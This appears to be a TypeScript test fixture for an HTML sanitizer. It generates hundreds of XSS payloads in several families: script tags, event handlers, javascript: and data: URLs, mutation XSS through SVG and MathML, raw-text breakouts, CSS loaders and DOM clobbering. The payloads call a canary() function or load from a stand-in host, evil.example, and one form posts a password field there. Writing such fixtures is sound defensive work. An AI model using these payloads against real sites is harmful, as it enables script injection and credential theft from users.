/** Where hostile HTML would load from. */
export const evilHost = 'evil.example';

/**
 * HTML that tries to run `canary()`, to load from evil.example or to take over the page: families of known tricks
 * (OWASP's filter evasion, mutation XSS, namespace confusion, DOM clobbering), each in many spellings.
 */
export const hostileHtml: readonly string[] = [
  ...scripts(),
  ...handlers(),
  ...addresses(),
  ...foreignContent(),
  ...breakouts(),
  ...styles(),
  ...loaders(),
  ...clobbering(),
  ...brokenMarkup(),
  ...unicode(),
].filter((html, index, all) => all.indexOf(html) === index);

function scripts(): string[] {
  const names = ['script', 'SCRIPT', 'ScRiPt', 'script/x', 'script\t', 'script\n', 'script\f', 'script type=module'];
  const bodies = ['canary()', '//\ncanary()', '<!--\ncanary()\n-->', '/*<![CDATA[*/canary()/*]]>*/'];
  const whole = names.flatMap((name) => bodies.map((body) => `<${name}>${body}</script>`));
  const sources = [
    `https://${evilHost}/x.js`,
    `//${evilHost}/x.js`,
    'data:text/javascript,canary()',
    `\\\\${evilHost}\\x`,
  ];
  return [
    ...whole,
    ...sources.map((source) => `<script src="${source}"></script>`),
    ...sources.map((source) => `<script src=${source}>`),
    '<script>canary()',
    '<<script>canary()</script>',
    '<scr<script>ipt>canary()</scr</script>ipt>',
    '<script\u0000>canary()</script>',
    '<p>a<script>canary()</script >b</p>',
    '<script>canary()</script\n',
    '</script><script>canary()</script>',
    '<svg><script>canary()</script></svg>',
    '<svg><script href="data:,canary()"/></svg>',
    '<svg><script xlink:href="data:text/javascript,canary()"></script></svg>',
    '<math><script>canary()</script></math>',
    '<template><script>canary()</script></template>',
    '<noscript><script>canary()</script></noscript>',
    '<script type="text/javascript" defer async nonce="x">canary()</script>',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/p"]}]}</script>',
    '<script type="importmap">{"imports":{"a":"https://evil.example/a.js"}}</script>',
  ];
}

function handlers(): string[] {
  const elements = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'p',
    'a href=#',
  ];
  const more = [
    'marquee',
    'iframe',
    'select autofocus',
    'textarea autofocus',
    'object data=x',
    'div tabindex=1 autofocus',
    'li',
  ];
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onpointerover',
    'onmouseenter',
    'onanimationstart',
    'onclick',
  ];
  const plain = [...elements, ...more].flatMap((element) => events.map((event) => `<${element} ${event}=canary()>`));
  const spellings = [
    'onerror="canary()"',
    "onerror='canary()'",
    'onerror=`canary()`',
    'ONERROR=canary()',
    'onerror\n=\ncanary()',
  ];
  const joined = [
    '/onerror=canary()',
    '\tonerror=canary()',
    '\fonerror=canary()',
    '"onerror=canary()',
    "'/onerror=canary()//",
  ];
  return [
    ...plain,
    ...spellings.map((spelling) => `<img src=x ${spelling}>`),
    ...joined.map((rest) => `<img src=x${rest}>`),
    ...spellings.map((spelling) => `<p ${spelling}>text</p>`),
    '<a href="https://ok.example" onclick="canary()">link</a>',
    '<a href="https://ok.example"onmouseover="canary()">link</a>',
    "<a href='https://ok.example' x='\"onmouseover=canary()'>link</a>",
    '<strong onpointerenter=canary() style=position:fixed;inset:0>cover</strong>',
    '<h3 id=x tabindex=1 onfocus=canary()>heading</h3>',
    '<em oncontentvisibilityautostatechange=canary() style=content-visibility:auto>x</em>',
    '<p onbeforematch=canary() hidden=until-found>x</p>',
    '<br onload=canary()>',
    '<br/onerror=canary()/>',
    '<ul onscroll=canary() style="overflow:scroll"><li>x</ul>',
    '<img src=x onerror=&#99;anary()>',
    '<img src=x onerror="&#x63;anary&lpar;&rpar;">',
    '<x onclick=canary()>x</x>',
    '<custom-element onfocus=canary() autofocus tabindex=1>x</custom-element>',
  ];
}

function addresses(): string[] {
  const script = [
    'javascript:canary()',
    'JaVaScRiPt:canary()',
    ' javascript:canary()',
    '\u0001javascript:canary()',
    '\u00a0javascript:canary()',
    'java\tscript:canary()',
    'java\nscript:canary()',
    'java\rscript:canary()',
    'javascript\t:canary()',
    'javascript\n:canary()',
    'java\u0000script:canary()',
    'java&Tab;script:canary()',
    'java&NewLine;script:canary()',
    'javascript&colon;canary()',
    'javascript&#58;canary()',
    'javascript&#x3a;canary()',
    '&#106;avascript:canary()',
    '&#x6A;avascript:canary()',
    '&#0000106avascript:canary()',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:canary()',
    'javascript:/*--></title></style></textarea></script>*/canary()',
    'javascript://%0acanary()',
    'javascript://ok.example/%0acanary()',
    'data:text/html,<script>canary()</script>',
    'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"/>',
    'DATA:text/html,x',
    'vbscript:canary()',
    'VbScRiPt:canary()',
    'livescript:canary()',
    'mocha:canary()',
    'blob:https://evil.example/x',
    'filesystem:https://evil.example/x',
    'file:///etc/passwd',
    'feed:javascript:canary()',
    'view-source:javascript:canary()',
    'jar:javascript:canary()!/',
    'ftp://evil.example/x',
    'intent://evil.example#Intent;end',
    'ms-word:ofe|u|https://evil.example',
    '//evil.example/x',
    '\\\\evil.example\\x',
    '/\\evil.example/x',
    '/\t/evil.example/x',
    '\t//evil.example/x',
    '/\u2060/evil.example\u0000',
    'x:y',
    'javascript&amp;colon;canary()',
    '\u2028javascript:canary()',
    '\ufeffjavascript:canary()',
  ];
  const holders: ((address: string) => string)[] = [
    (address) => `<a href="${address}">go</a>`,
    (address) => `<a href='${address}'>go</a>`,
    (address) => `<p><a href="${address}" target=_blank><strong>go</strong></a></p>`,
  ];
  return [
    ...script.flatMap((address) => holders.map((hold) => hold(address))),
    ...script
      .slice(0, 4)
      .flatMap((address) => [
        `<form action="${address}"><button>go</button></form>`,
        `<button formaction="${address}">go</button>`,
        `<iframe src="${address}"></iframe>`,
        `<img src="${address}">`,
        `<svg><a xlink:href="${address}"><text y=20>go</text></a></svg>`,
        `<math><mi href="${address}">go</mi></math>`,
        `<area href="${address}">`,
        `<meta http-equiv=refresh content="0;url=${address}">`,
      ]),
    '<a href=javascript:canary()>go</a>',
    '<a href="https://ok.example" href="javascript:canary()">go</a>',
    '<a xlink:href="javascript:canary()">go</a>',
    '<a ping="https://evil.example/ping" href="/x">go</a>',
    '<a href="https://ok.example" download="x.exe" target="_self">go</a>',
  ];
}

/** SVG and MathML, whose contents other rules parse: the ground of mutation XSS. */
function foreignContent(): string[] {
  const roots = ['svg', 'math'];
  const bridges = [
    'foreignObject',
    'desc',
    'title',
    'annotation-xml',
    'mtext',
    'mi',
    'mglyph',
    'malignmark',
    'annotation-xml encoding=text/html',
  ];
  const payloads = [
    '<img src=x onerror=canary()>',
    '<style><img src=x onerror=canary()></style>',
    '<p></p><script>canary()</script>',
  ];
  return [
    ...roots.flatMap((root) =>
      bridges.flatMap((bridge) => payloads.map((payload) => `<${root}><${bridge}>${payload}`)),
    ),
    '<svg/onload=canary()>',
    '<svg onload=canary()><p>x',
    '<svg><animate onbegin=canary() attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:canary() /><text y=20>go</text></a></svg>',
    '<svg><set attributeName=href to=javascript:canary() /></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary()/>#x"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><feImage href="https://evil.example/x.png"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
    '<svg><p><style><g title="</style><img src=x onerror=canary()>"></svg>',
    '<math><p></p><style><!--</style><img src=x onerror=canary()>--></style></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=canary()>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=canary()></style></annotation-xml></math>',
    '<svg><![CDATA[><img src=x onerror=canary()>]]></svg>',
    '<svg><title><![CDATA[</title><script>canary()</script>]]></title></svg>',
    '<math href="javascript:canary()">go</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:canary()">go</maction></math>',
    '<svg><style>{-o-link-source:"<body/onload=canary()>"}</style></svg>',
    '<svg><switch><foreignObject><iframe srcdoc="<script>parent.canary()</script>"></iframe></foreignObject></switch></svg>',
    '<svg><desc><![CDATA[</desc><script>canary()</script>]]></svg>',
    '<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=canary()>">',
    '<p><svg><p><style><!--</style><img src=x onerror=canary()>--></style></svg>',
  ];
}

/** Elements whose contents are text to one parser and markup to the next. */
function breakouts(): string[] {
  const rawText = [
    'style',
    'textarea',
    'title',
    'noscript',
    'noembed',
    'noframes',
    'xmp',
    'iframe',
    'template',
    'plaintext',
    'select',
    'option',
  ];
  return [
    ...rawText.flatMap((name) => [
      `<${name}><p title="</${name}><img src=x onerror=canary()>">`,
      `<${name}></${name}><img src=x onerror=canary()>`,
      `<${name}><!--</${name}><img src=x onerror=canary()>-->`,
      `<${name}><${name}></${name}><img src=x onerror=canary()></${name}>`,
      `<p><${name}><strong></${name}><a href="javascript:canary()">go`,
    ]),
    '<!--><img src=x onerror=canary()>-->',
    '<!---><img src=x onerror=canary()>-->',
    '<!-- --!><img src=x onerror=canary()>-->',
    '<!-- <!-- --><img src=x onerror=canary()> -->',
    '<!--[if gte IE 4]><script>canary()</script><![endif]-->',
    '<![CDATA[<img src=x onerror=canary()>]]>',
    '<!DOCTYPE html><img src=x onerror=canary()>',
    '<?xml version="1.0"?><img src=x onerror=canary()>',
    '<?import namespace="t" implementation="https://evil.example/x">',
    '<! foo="><script>canary()</script>">',
    '</ foo="><script>canary()</script>">',
    '<% foo><x foo="%><script>canary()</script>">',
    '<template shadowrootmode=open><img src=x onerror=canary()></template>',
    '<div><template shadowroot=open><script>canary()</script></template></div>',
    '<table><tr><td><p></table><img src=x onerror=canary()>',
    '<table><a href="javascript:canary()">go</a></table>',
    '<select><iframe><select><img src=x onerror=canary()>',
    '<keygen autofocus onfocus=canary()>',
    '<listing>&lt;img onerror="canary()" src=x&gt;</listing>',
    '<isindex type=image src=1 onerror=canary()>',
  ];
}

function styles(): string[] {
  return [
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>body{background:url(https://evil.example/x.png)}</style>',
    '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}p{font-family:x}</style>',
    '<style>*{display:none}</style>',
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    '<p style="background-image:image-set(url(https://evil.example/x.png) 1x)">x</p>',
    "<p style='list-style:url(//evil.example/x)'>x</p>",
    '<li style="list-style-image:url(https://evil.example/x.png)">x</li>',
    '<p style="position:fixed;inset:0;z-index:9999;background:white">cover</p>',
    '<p style="width:expression(canary())">x</p>',
    '<p style="behavior:url(#default#time2)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style="animation:x 1s" onanimationend=canary()>x</p>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<link rel=stylesheet href="data:text/css,*{display:none}">',
    '<style><!--</style><script>canary()</script>--></style>',
    '<style></style\n><img src=x onerror=canary()>',
    '<p class="visually-hidden" id="gatsby-focus-wrapper">x</p>',
    '<p background="https://evil.example/x.png">x</p>',
    '<p hidden inert popover=auto>x</p>',
  ];
}

/** What loads, sends, frames or leads away by itself. */
function loaders(): string[] {
  const source = `https://${evilHost}/x`;
  const elements = [
    ...[
      'img',
      'image',
      'iframe',
      'embed',
      'video',
      'audio',
      'input type=image',
      'source',
      'track',
      'frame',
      'bgsound',
      'script',
    ],
  ];
  return [
    ...elements.map((element) => `<${element} src="${source}">`),
    ...elements.map((element) => `<${element} src=//${evilHost}/x `),
    `<img srcset="${source} 1x, ${source}2 2x">`,
    `<picture><source srcset="${source}"><img alt=x></picture>`,
    `<video poster="${source}"></video>`,
    `<video><source src="${source}" onerror=canary()></video>`,
    `<object data="${source}"></object>`,
    '<object data="data:text/html,<script>canary()</script>"></object>',
    `<object><param name=src value="${source}"></object>`,
    `<applet code="${source}"></applet>`,
    `<iframe srcdoc="<script>parent.canary()</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=${source}&gt;"></iframe>`,
    `<portal src="${source}"></portal>`,
    `<fencedframe src="${source}"></fencedframe>`,
    `<base href="https://${evilHost}/">`,
    `<base target=_blank><a href="/x">go</a>`,
    `<meta http-equiv="refresh" content="0;url=${source}">`,
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    ...[
      'preload as=image',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'icon',
      'manifest',
      'import',
      'prerender',
    ].map((rel) => `<link rel=${rel} href="${source}">`),
    `<form action="${source}"><input name=password><button>Send</button></form>`,
    `<input form=x formaction="${source}">`,
    `<button formaction="${source}">go</button>`,
    `<body background="${source}">`,
    `<table background="${source}"><tr><td background="${source}">x</table>`,
    `<a href="/x" attributionsrc="${source}">go</a>`,
    `<img src=x attributionsrc="${source}">`,
    `<blockquote cite="${source}">x</blockquote>`,
    `<html manifest="${source}">`,
    `<head profile="${source}"></head>`,
    `<ins cite="javascript:canary()">x</ins>`,
    `<q cite="${source}">x</q>`,
    `<dialog open><form method=dialog>Log in: <input></form></dialog>`,
    `<button popovertarget=x onclick=canary()>go</button>`,
  ];
}

/** Names that would hide properties of the document or of forms. */
function clobbering(): string[] {
  const names = [
    'body',
    'head',
    'cookie',
    'location',
    'forms',
    '___loader',
    'pagePath',
    'canary',
    '__proto__',
    'constructor',
  ];
  return [
    ...names.map((name) => `<a id="${name}" name="${name}" href="https://${evilHost}/">x</a>`),
    ...names.map((name) => `<form id="${name}"><input name="attributes"><input name="parentNode"></form>`),
    ...names.map((name) => `<img name="${name}" src=x>`),
    '<a id=x><a id=x name=y href="javascript:canary()">go</a>',
    '<p id="___gatsby">x</p>',
    '<form><input name=nodeName><input name=removeChild><img src=x onerror=canary()></form>',
    '<form id=x><form id=y><input name=attributes onfocus=canary() autofocus>',
  ];
}

function brokenMarkup(): string[] {
  return [
    '<p><a href="https://ok.example"><a href="javascript:canary()">nested</a></a></p>',
    '<a href="https://ok.example"><p><a onclick=canary()>x</a></p>',
    '<p onclick=canary()',
    '<img src="x` `<script>canary()</script>"` `>',
    '<img src=x onerror="canary()//',
    '<a href="javascript:canary()',
    '<a href=`javascript:canary()`>go</a>',
    '<strong><p><em></strong><img src=x onerror=canary()></em></p>',
    '<ul><li><script>canary()</li></ul>',
    '<ol><li><a href="java<script>script:canary()">x</a></ol>',
    '<li></ul></section></main><script>canary()</script>',
    '</details></div></section><img src=x onerror=canary()>',
    '</p></body></html><script>canary()</script>',
    '"><script>canary()</script>',
    "'><img src=x onerror=canary()>",
    '--><script>canary()</script>',
    ']]><img src=x onerror=canary()>',
    '{{constructor.constructor("canary()")()}}<img src=x onerror=canary()>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for templates
    '${canary()}<img src=x onerror=canary()>',
    '<IMG """><SCRIPT>canary()</SCRIPT>"\\>',
    '<img src="x"onerror="canary()"/x/',
    '<img/src="x"/onerror=canary()>',
    '<img \u0000src=x on\u0000error=canary()>',
    '<\u0000img src=x onerror=canary()>',
    `${'<p>'.repeat(600)}<img src=x onerror=canary()>`,
    `${'<strong><em>'.repeat(300)}<script>canary()</script>`,
    `${'<svg>'.repeat(200)}<style><img src=x onerror=canary()>`,
    `${'<a href="/x">'.repeat(100)}<img src=x onerror=canary()>`,
    '<p>&lt;img src=x onerror=canary()&gt;</p><img src=x onerror=canary()>',
    '&lt;script&gt;canary()&lt;/script&gt;<script>canary()</script>',
    '<p>\u003cscript\u003ecanary()\u003c/script\u003e</p>',
  ];
}

function unicode(): string[] {
  return [
    '<ſcript>canary()</ſcript><ſcript/ſrc=//evil.example>',
    '<scrıpt>canary()</scrıpt><img src=x onerror=canary()>',
    '<a href="ⓙavascript:canary()">go</a>',
    '<a href="javaſcript:canary()">go</a>',
    '<a href="ｊavascript:canary()">go</a>',
    '＜script＞canary()＜/script＞<script>canary()</script>',
    '<img src=x onerror\u200b=canary()>',
    '<img\u3000src=x onerror=canary()>',
    '<img\u2028src=x onerror=canary()><img src=x\u2028onerror=canary()>',
    '<a href="https://ok.example\u202e/x">go</a><img src=x onerror=canary()>',
    '<a href="https://evil.example﹟@ok.example" onclick=canary()>go</a>',
    '<p \u00a0onclick=canary()>x</p>',
    '<p\u000bonclick=canary()>x</p>',
    '+ADw-script+AD4-canary()+ADw-/script+AD4-<script>canary()</script>',
    '\ud800<script>canary()</script>\udc00',
    '\ufeff<script>canary()</script>',
    '¼script¾canary()¼/script¾<img src=x onerror=canary()>',
    '<img src=x onerror=\u0063anary()>',
    '<İmg src=x onerror=canary()>',
    '<K onclick=canary()>x</K>',
  ];
}
